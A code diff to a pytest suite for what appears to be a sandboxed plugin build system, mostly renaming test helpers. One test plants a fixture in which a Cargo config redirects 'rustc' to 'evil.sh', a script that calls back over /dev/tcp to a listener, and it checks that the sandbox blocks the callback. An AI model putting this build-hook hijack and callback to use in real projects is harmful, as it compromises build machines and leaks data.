@@ -11,7 +11,7 @@ import pytest
 from docker.errors import APIError
 
 from pluginyard.errors import BuildError
-from tests.machine.builds import GO_PLUGIN, RUST_PLUGIN, Bench, pack_context
+from tests.machine.builds import GO_PLUGIN, RUST_PLUGIN, Bench, source_of
 
 MODULE = '"$HOME/../out/plugin.wasm"'
 DONE = f"echo x > {MODULE}"
@@ -76,7 +76,7 @@ def test_the_limits_are_those_of_the_settings(bench: Bench) -> None:
         for each in bench.engine.client.containers(filters={"label": f"io.pluginyard.run={bench.run_id}"}):
             seen.append(bench.engine.client.inspect_container(each["Id"])["HostConfig"])
 
-    bench.limited(memory_bytes=300 * 1024 * 1024, processes=33, cpus=1.5).shell(f"echo now; sleep 1; {DONE}", log=look)
+    bench.allowing(memory=300, processes=33, cpus=1.5).shell(f"echo now; sleep 1; {DONE}", log=look)
     limits = seen[0]
     assert limits["Memory"] == limits["MemorySwap"] == 300 * 1024 * 1024
     assert limits["PidsLimit"] == 33
@@ -154,9 +154,9 @@ def test_a_crate_names_no_program_that_runs_in_the_fetch_step(
         ".cargo/config.toml": '[build]\nrustc = "./evil.sh"\n',
         "evil.sh": f"#!/bin/bash\necho EVIL >&2\necho called > /dev/tcp/{host}/{port}\nexit 1\n",
     }
-    context = pack_context(files, bench.folder / "evil.tar", mode=0o755)
+    source = source_of(files, executable=True)
     with pytest.raises(BuildError, match="EVIL") as raised:  # it does run, where there is no network
-        bench.build("rust", context=context, needs_fetch=True)
+        bench.build("rust", source=source, needs_fetch=True)
     assert "did not compile" in raised.value.message
     assert heard == []
 
